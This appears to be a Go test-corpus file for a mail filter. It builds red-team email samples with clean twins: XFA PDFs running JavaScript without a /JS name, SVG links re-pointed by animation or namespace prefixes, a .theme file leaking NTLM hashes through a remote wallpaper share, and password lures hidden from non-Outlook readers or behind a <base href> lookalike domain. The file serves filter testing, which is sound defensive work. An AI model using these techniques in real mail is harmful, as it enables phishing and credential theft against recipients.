package corpus

import (
	"strings"

	"github.com/kensa-milter/kensa/internal/corpus/formats"
	"github.com/kensa-milter/kensa/internal/cryptkeys"
	"github.com/kensa-milter/kensa/policy"
)

// redTeamSamples are the red team's tricks that got through, each with
// the honest twin that must stay clean.
func redTeamSamples() []Sample {
	var out []Sample
	add := func(s Sample, m mail) { out = append(out, build(s, m)) }
	body := text("Hello,\n\nplease find the invoice attached.\n\nRegards\n")

	// An XFA form (Adobe Reader and Acrobat lay it out and run its
	// scripts) whose docReady event opens a page: no /JS or /JavaScript
	// name anywhere, the template deflated.
	xfaAs := func(enc func(string) string, more string) []byte {
		template := `<?xml version="1.0" encoding="UTF-8"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">` +
			`<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1" layout="tb">` +
			`<pageSet><pageArea name="Page1"><contentArea x="0.25in" y="0.25in" w="8in" h="10.5in"/><medium stock="letter"/></pageArea></pageSet>` +
			`<field name="InvoiceNo" w="3in" h="9mm"><ui><textEdit/></ui></field>` + more + `</subform></template></xdp:xdp>`
		return formats.PDF("<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> /NeedsRendering true >>",
			"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
			formats.PDFFlate("", enc(template)))
	}
	xfa := func(more string) []byte { return xfaAs(func(s string) string { return s }, more) }
	utf16 := func(s string) string {
		return string(cryptkeys.UTF16LE("\ufeff" + strings.Replace(s, `encoding="UTF-8"`, `encoding="UTF-16"`, 1)))
	}
	add(Sample{Name: "pdf-xfa-javascript", Action: policy.Tag,
		About: "a PDF whose XFA form runs JavaScript as it opens in Adobe Reader (docReady: app.launchURL), with no /JS name",
		Want:  []Want{w("heuristic", "pdf-javascript", "2")}},
		mail{from: "Accounts <accounts@northwind-traders.example.com>", subject: "Invoice 4471",
			root: multipart("mixed", body, attach("application/pdf", "Invoice_4471.pdf",
				xfa(`<event activity="docReady" ref="$host"><script contentType="application/x-javascript">app.launchURL("https://invoice-portal.example.net/view/4471", true);</script></event>`)))})
	add(Sample{Name: "pdf-xfa-javascript-utf16", Action: policy.Tag,
		About: "a PDF whose XFA form, written in UTF-16 as XML allows, runs JavaScript as it opens in Adobe Reader",
		Want:  []Want{w("heuristic", "pdf-javascript", "2")}},
		mail{from: "Accounts <accounts@northwind-traders.example.com>", subject: "Invoice 4472",
			root: multipart("mixed", body, attach("application/pdf", "Invoice_4472.pdf",
				xfaAs(utf16, `<event activity="initialize"><script contentType="application/x-javascript">app.launchURL("https://invoice-portal.example.net/view/4472", true);</script></event>`)))})
	add(Sample{Name: "pdf-xfa-form-utf16", Clean: true,
		About: "an honest XFA form written in UTF-16: fields and layout, no script"},
		mail{from: "HR <hr@northwind-traders.example.com>", subject: "Leave request form",
			root: multipart("mixed", text("Hello,\n\nthe leave request form is attached; fill it in Adobe Reader.\n\nHR\n"),
				attach("application/pdf", "Leave_request.pdf", xfaAs(utf16, strings.Repeat(`<field name="Days" w="2in" h="9mm"><ui><numericEdit/></ui><caption><value><text>Days of leave</text></value></caption></field>`+
					`<field name="From" w="3in" h="9mm"><ui><dateTimeEdit/></ui><caption><value><text>First day</text></value></caption></field>`, 3))))})
	add(Sample{Name: "pdf-xfa-form-fields", Clean: true,
		About: "an honest XFA form: fields and layout, no script"},
		mail{from: "HR <hr@northwind-traders.example.com>", subject: "Travel expense form",
			root: multipart("mixed", text("Hello,\n\nthe travel expense form is attached; fill it in Adobe Reader.\n\nHR\n"),
				attach("application/pdf", "Travel_expenses.pdf", xfa(`<field name="Amount" w="2in" h="9mm"><ui><numericEdit/></ui></field>`)))})

	// An SVG button whose markup links to the sender's own site while a
	// <set> re-points the link, which Chromium follows when it is clicked.
	svg := func(inner string) []byte {
		return []byte(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="300">` + inner + "</svg>\r\n")
	}
	add(Sample{Name: "svg-link-animated-href", Action: policy.Tag,
		About: "an SVG button whose href is the sender's own site until a <set> on it puts another host there, which Chromium follows when it is clicked",
		Want:  []Want{w("heuristic", "svg-link", "2")}},
		mail{subject: "Shared file", root: multipart("mixed", text("Please see the attached file.\n"), attach("image/svg+xml", "Shared_File.svg",
			svg(`<a href="https://www.shop.example.com/"><set attributeName="href" to="https://docs-view.example.net/d/7731"/>`+
				`<rect width="600" height="300" fill="#0078d4"/><text x="200" y="160" fill="#fff" font-size="32">View document</text></a>`)))})
	add(Sample{Name: "svg-logo-animated", Clean: true, About: "a company's animated SVG logo linking to its own site"},
		mail{subject: "Our animated logo", root: multipart("mixed", text("Here is the animated logo for the web site.\n"), attach("image/svg+xml", "logo-animated.svg",
			svg(`<a href="https://www.shop.example.com/"><circle cx="30" cy="30" r="25" fill="#e60"><animate attributeName="r" values="25;20;25" dur="2s" repeatCount="indefinite"/></circle>`+
				`<text x="70" y="38">Example Shop</text></a>`)))})

	// An SVG file is XML: <svg:a> with the prefix bound to SVG's
	// namespace is a link Chromium follows, as xl:href is XLink's href.
	add(Sample{Name: "svg-link-prefixed", Action: policy.Tag,
		About: "an SVG button written with an svg: prefix on every element (<svg:a xl:href=...>), which Chromium reads as SVG and follows when clicked",
		Want:  []Want{w("heuristic", "svg-link", "2")}},
		mail{subject: "Shared file", root: multipart("mixed", text("Please see the attached file.\n"), attach("image/svg+xml", "Shared_File.svg",
			[]byte(`<svg:svg xmlns:svg="http://www.w3.org/2000/svg" xmlns:xl="http://www.w3.org/1999/xlink" width="600" height="300"><svg:a xl:href="https://docs-view.example.net/d/7731">`+
				`<svg:rect width="600" height="300" fill="#0078d4"/><svg:text x="200" y="160" fill="#fff" font-size="32">View document</svg:text></svg:a></svg:svg>`+"\r\n")))})
	add(Sample{Name: "svg-badge-prefixed", Clean: true, About: "a company's SVG badge written with an svg: prefix, linking to its own site"},
		mail{subject: "Badge for the partner page", root: multipart("mixed", text("The partner badge for your site is attached.\n"), attach("image/svg+xml", "partner-badge.svg",
			[]byte(`<svg:svg xmlns:svg="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="40"><svg:a xlink:href="https://www.shop.example.com/partners">`+
				`<svg:rect width="120" height="40" rx="6" fill="#222"/><svg:text x="10" y="26" fill="#fff">Partner</svg:text></svg:a></svg:svg>`+"\r\n")))})

	// A .theme's wallpaper on a WebDAV share: Explorer loads it as it
	// shows the file (CVE-2024-21320), sending the reader's NTLM hash.
	add(Sample{Name: "theme-wallpaper-share", Action: policy.Quarantine,
		About: "a Windows .theme whose wallpaper and visual style are on a share on the Internet, loaded as Explorer shows the file and as it is applied",
		Want:  []Want{w("heuristic", "dangerous-shortcut", "2"), w("heuristic", "remote-fetch", "2")}},
		mail{subject: "New corporate theme", root: multipart("mixed", text("Hello,\n\nplease apply the new corporate theme attached.\n\nIT\n"), attach("application/octet-stream", "Corporate.theme",
			[]byte("[Theme]\r\nDisplayName=Corporate\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\branding.example.net@SSL\\DavWWWRoot\\wall.jpg\r\n[VisualStyles]\r\nPath=\\\\branding.example.net\\s\\aero.msstyles\r\n")))})

	// Outlook for Windows shows the markup of a conditional comment for
	// it, where every other reader sees a comment: a button only Outlook
	// shows, as a VML shape's href, beside a harmless link for the rest.
	add(Sample{Name: "outlook-only-link", Action: policy.Quarantine,
		About: "a password lure whose button, a VML shape in an [if mso] conditional comment, only Outlook for Windows shows, to a lookalike of microsoft.com; other readers see a help link",
		Want:  []Want{w("heuristic", "lookalike-domain", "2"), w("heuristic", "account-lure-link", "2")}},
		mail{from: "IT Service Desk <it@helpdesk-notify.example.org>", subject: "Password expires today", root: multipart("alternative",
			text("Your password expires today.\n"),
			html(`<p>Your password expires today.</p><!--[if mso]><v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" href="https://login.rnicrosoft.com/keep" style="height:40px;width:220px" fillcolor="#0078d4">`+
				`<center style="color:#fff">Keep my password</center></v:roundrect><![endif]--><!--[if !mso]><!--><p><a href="https://www.example.com/help">Help</a></p><!--<![endif]-->`))})
	add(Sample{Name: "newsletter-outlook-button", Clean: true, About: "a shop's newsletter whose button is drawn for Outlook as a VML shape in a conditional comment, to the same page as the HTML button"},
		mail{from: "Example Shop <news@shop.example.com>", subject: "New arrivals", root: multipart("alternative",
			text("New arrivals: https://shop.example.com/new\n"),
			html(`<p>New arrivals are in.</p><!--[if gte mso 9]><v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" href="https://shop.example.com/new" style="height:40px;width:200px" arcsize="10%" fillcolor="#e60">`+
				`<w:anchorlock/><center style="color:#fff">See what is new</center></v:roundrect><![endif]--><!--[if !mso]><!--><a href="https://shop.example.com/new" style="background:#e60;color:#fff;padding:10px">See what is new</a><!--<![endif]-->`))})

	// A relative link goes where the page's <base href> says, in
	// browsers and in the mail clients that keep <base> (Thunderbird).
	add(Sample{Name: "base-href-relative-link", Action: policy.Quarantine,
		About: "a password lure whose button is a relative link, resolved against a <base href> on a lookalike of microsoft.com",
		Want:  []Want{w("heuristic", "lookalike-domain", "2"), w("heuristic", "account-lure-link", "2")}},
		mail{from: "IT Service Desk <it@helpdesk-notify.example.org>", subject: "Password expires today", root: multipart("alternative",
			text("Your password expires today.\n"),
			html(`<html><head><base href="https://login.rnicrosoft.com/owa/"></head><body><p>Your password expires today.</p><p><a href="keep?u=7">Keep my password</a></p></body></html>`))})
	add(Sample{Name: "newsletter-base-href", Clean: true, About: "a shop's newsletter whose links are relative to a <base href> on its own site"},
		mail{from: "Example Shop <news@shop.example.com>", subject: "Spring catalogue", root: multipart("alternative",
			text("Spring catalogue: https://shop.example.com/spring\n"),
			html(`<html><head><base href="https://shop.example.com/"></head><body><p><a href="spring">Spring catalogue</a> | <a href="account/preferences">Preferences</a></p></body></html>`))})
	return out
}
